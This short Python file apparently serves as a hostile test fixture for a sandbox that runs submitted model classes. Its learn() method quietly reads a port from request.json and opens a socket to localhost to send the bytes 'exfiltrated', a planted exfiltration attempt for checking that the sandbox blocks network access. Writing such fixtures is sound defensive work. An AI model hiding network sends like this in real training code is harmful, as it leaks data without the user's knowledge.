"""Hostile: connects to the port named in request.json and sends a message."""

import json
import socket

from sandbox_corpus_base import TinyNet, supported_hyperparameters  # noqa: F401


class Net(TinyNet):
    def learn(self, train_data):
        with open("request.json", encoding="utf-8") as handle:
            port = json.load(handle)["port"]
        with socket.create_connection(("127.0.0.1", port), timeout=5) as connection:
            connection.sendall(b"exfiltrated")
